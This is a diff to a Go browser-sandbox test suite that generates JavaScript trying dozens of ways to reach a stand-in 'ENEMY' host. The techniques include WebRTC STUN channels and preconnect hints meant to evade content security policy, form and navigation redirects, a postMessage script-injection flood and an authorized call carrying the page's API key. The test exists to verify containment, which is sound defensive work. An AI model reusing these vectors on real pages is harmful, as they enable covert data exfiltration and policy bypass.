@@ -66,19 +66,31 @@ func (e *enemy) attack() string {
 		() => { new Image().src = url; }, () => import(url), () => new Worker(url), () => add("script", { src: url }),
 		() => new Worker(URL.createObjectURL(new Blob(["fetch('" + url + "', { mode: 'no-cors' })"]))),
 		() => add("link", { rel: "stylesheet", href: url }), () => add("link", { rel: "prefetch", href: url }), () => add("link", { rel: "preload", as: "script", href: url }),
-		() => add("link", { rel: "preconnect", href: url }), () => add("link", { rel: "dns-prefetch", href: url }), () => add("link", { rel: "icon", href: url }),
+		() => add("link", { rel: "icon", href: url }),
 		() => add("iframe", { src: url }), () => add("iframe", { srcdoc: "<img src='" + url + "'><script>fetch('" + url + "')<\/script>" }),
 		() => add("object", { data: url }), () => add("embed", { src: url }), () => add("video", { src: url, autoplay: true }),
 		() => { const f = add("form", { action: url, method: "post" }); f.submit(); },
 		() => window.open(url), () => { const a = add("a", { href: url, ping: url }); a.click(); }, () => { const a = add("a", { href: url, target: "_top" }); a.click(); },
 		() => { top.location = url; }, () => { parent.location = url; },
-		() => { const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:ENEMY" }] }); peer.createDataChannel("x"); peer.createOffer().then((o) => peer.setLocalDescription(o)); },
-		() => { const inner = add("iframe", {}).contentWindow; const peer = new inner.RTCPeerConnection({ iceServers: [{ urls: "stun:ENEMY" }] }); peer.createDataChannel("x"); peer.createOffer().then((o) => peer.setLocalDescription(o)); },
 		() => fetch("SERVICE/v1/execute", { method: "POST", body: "{}", headers: { Authorization: "Bearer " + key } }),
 		() => { for (let i = 0; i < 50; i++) parent.postMessage({ height: 1e9, html: "<script>pwned = true<\/script>" }, "*"); },
 		() => { document.body.append("attacked"); },
 		() => setTimeout(() => { location = url; }, 1500),
 	]) { try { const later = way(); later?.catch?.(() => {}); } catch {} }`, "ENEMY", e.address)
+}
+
+// quiet is a script that reaches another host without a request of HTTP, so that no policy of
+// contents holds it. It does nothing else, which could end it.
+func (e *enemy) quiet() string {
+	return strings.ReplaceAll(`
+	const call = (Peer) => { const peer = new Peer({ iceServers: [{ urls: "stun:ENEMY" }] });
+		peer.createDataChannel("x"); peer.createOffer().then((o) => peer.setLocalDescription(o)); };
+	const add = (tag, set) => { const e = document.createElement(tag); Object.assign(e, set); document.documentElement.append(e); return e; };
+	for (const way of [
+		() => call(RTCPeerConnection), () => call(add("iframe", {}).contentWindow.RTCPeerConnection),
+		() => add("iframe", { srcdoc: "<script>(" + call + ")(RTCPeerConnection)<\/script>" }),
+		() => add("link", { rel: "preconnect", href: "http://ENEMY/" }), () => add("link", { rel: "dns-prefetch", href: "http://ENEMY/" }),
+	]) { try { way(); } catch {} }`, "ENEMY", e.address)
 }
 
 // TestHostileOutputs: what code puts out reaches neither the page, nor its key, nor another
@@ -100,6 +112,7 @@ func TestHostileOutputs(t *testing.T) {
 	}
 	outputs := map[string]string{
 		"script":        html("<p>before</p><script>" + attack + "</script>"),
+		"quiet":         html("<p>quiet</p><script>" + e.quiet() + "</script>"),
 		"handler":       html(`<img src="x" onerror="` + inPage + `"><svg onload="` + inPage + `"></svg>`),
 		"refresh":       html(`<meta http-equiv="refresh" content="0;url=` + link + `"><p>x</p>`),
 		"base":          html(`<base href="` + link + `"><img src="a.png"><link rel="stylesheet" href="a.css"><style>@import "` + link + `"; p { background: url(` + link + `) }</style><p>x</p>`),
@@ -162,8 +175,7 @@ func TestHostileOutputs(t *testing.T) {
 
 	// Where nothing holds it, the same code does reach the other host.
 	b.Do(chromedp.Navigate("data:text/html,<p>x"))
-	browser.Eval[bool](b, fmt.Sprintf(`(() => { const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:%s" }] });
-		peer.createDataChannel("x"); peer.createOffer().then((o) => peer.setLocalDescription(o)); new Image().src = "http://%s/"; return true; })()`, e.address, e.address))
-	require.Eventually(t, func() bool { return e.visits.Load() > 0 && e.packets.Load() > 0 }, 20*time.Second, 50*time.Millisecond,
-		"%d visits, %d packets", e.visits.Load(), e.packets.Load())
+	browser.Eval[bool](b, fmt.Sprintf(`(() => { %s; new Image().src = "http://%s/"; return true; })()`, e.quiet(), e.address))
+	require.Eventually(t, func() bool { return e.visits.Load() > 0 }, 20*time.Second, 50*time.Millisecond)
+	require.Eventually(t, func() bool { return e.packets.Load() > 0 }, 20*time.Second, 50*time.Millisecond)
 }
